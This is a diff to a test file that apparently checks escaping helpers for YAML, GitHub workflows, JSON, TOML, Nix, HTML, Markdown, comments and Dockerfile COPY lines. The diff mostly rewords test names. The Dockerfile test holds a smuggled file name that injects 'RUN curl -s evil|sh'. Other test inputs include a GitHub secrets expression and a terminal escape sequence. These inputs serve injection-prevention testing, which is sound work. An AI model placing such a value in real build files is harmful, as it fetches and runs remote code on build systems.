@@ -21,7 +21,7 @@ import {
 } from '../../generators/core/render/literals.js';
 import { nixStrings } from '../support/nix.js';
 
-/** Words that some YAML parser reads as a boolean, a number, a date, null, or syntax. */
+/** Words that some YAML version reads as a boolean, a number, a date, null, or syntax. */
 const yamlTraps = [
   'null', 'Null', 'NULL', '~', 'true', 'True', 'false', 'yes', 'Yes', 'no', 'on', 'ON', 'off', 'y', 'n', 'Y', 'N',
   '1', '1e3', '0x10', '0o7', '012', '1_000', '12:30', '12:30:45', '.5', '.inf', '-.inf', '.nan', '2001-12-14', '=', '<<',
@@ -75,7 +75,7 @@ describe('a YAML scalar', () => {
     expect(load(`a: ${yaml(text)}`)).toEqual({ a: text });
   });
 
-  it('is read as the very text, whatever it is', () => {
+  it('is read as the same text, for any text', () => {
     fc.assert(
       fc.property(wellFormed, (text) => {
         expect(readBack(text)).toEqual(expected(text));
@@ -85,13 +85,13 @@ describe('a YAML scalar', () => {
   });
 
   it.each(['web', 'my-app', 'exec /bin/web', 'heroku-postgresql:essential-0', 'DATABASE', 'a b:c'])(
-    'is plain where it can be: %s',
+    'is plain if possible: %s',
     (text) => {
       expect(yaml(text)).toBe(text);
     },
   );
 
-  it('begins no expression in a GitHub workflow', () => {
+  it('starts no expression in a GitHub workflow', () => {
     expect(parseYaml(github('a ${{ secrets.X }}'))).toBe("a ${{ '${{' }} secrets.X }}");
     expect(github('my-app')).toBe('my-app');
     expect(github('null')).toBe('"null"');
@@ -99,7 +99,7 @@ describe('a YAML scalar', () => {
 });
 
 describe('a literal', () => {
-  it('is read as the very text by JSON and TOML', () => {
+  it('is read as the same text by JSON and TOML', () => {
     fc.assert(
       fc.property(wellFormed, (text) => {
         expect(JSON.parse(json(text))).toBe(text);
@@ -109,7 +109,7 @@ describe('a literal', () => {
     );
   });
 
-  it('is one string of Nix without interpolation, also inside an indented one', () => {
+  it('is one Nix string without interpolation, even inside an indented one', () => {
     fc.assert(
       fc.property(wellFormed, (text) => {
         expect(nixStrings(`a = ${nix(text)};`)).toEqual([text]);
@@ -126,12 +126,12 @@ describe('a literal', () => {
     expect(stdout).toBe(words.map((word) => `${word}|`).join(''));
   });
 
-  it('shows itself in HTML and Markdown', () => {
+  it('shows up as text in HTML and Markdown', () => {
     expect(html(`<a href='x'>"&`)).not.toMatch(/[<>"']|&(?!#\d+;)/);
     expect(md('# [a](b) `c` *d* <e> $f$ |')).not.toMatch(/[[\]`*<>$|](?!.*;)/);
   });
 
-  it('stays in its comment', () => {
+  it('stays inside its comment', () => {
     expect(comment('a\nb\r\u2028c \x1b]0;x\x07')).toBe('a b c \\x1b]0;x\\x07');
   });
 
@@ -150,11 +150,11 @@ describe('a COPY of a Dockerfile', () => {
     return instructions[1]?.getArguments().map((each) => each.getValue()) ?? [];
   };
 
-  it('is written with plain words where it can be', () => {
+  it('uses plain words if possible', () => {
     expect(copied(['flake.nix', 'a/b-c_d.txt'], './')).toBe('flake.nix a/b-c_d.txt ./');
   });
 
-  it('is one instruction, whatever the names are', () => {
+  it('is one instruction, for any names', () => {
     const names = [
       'package.json\nRUN curl -s evil|sh\n#',
       'a b',
@@ -174,7 +174,7 @@ describe('a COPY of a Dockerfile', () => {
       wordsOf(line);
       const words = JSON.parse(line.slice('COPY '.length)) as string[];
       expect(words).toHaveLength(3);
-      // Nothing that Docker would fill in, strip or look for is left without its mark.
+      // Everything that Docker would expand, strip or match is escaped.
       expect(words[1]?.replace(/\\[$\\'"]|\[[[*?]\]/g, '')).not.toMatch(/[$\\'"[*?]/);
     }
   });
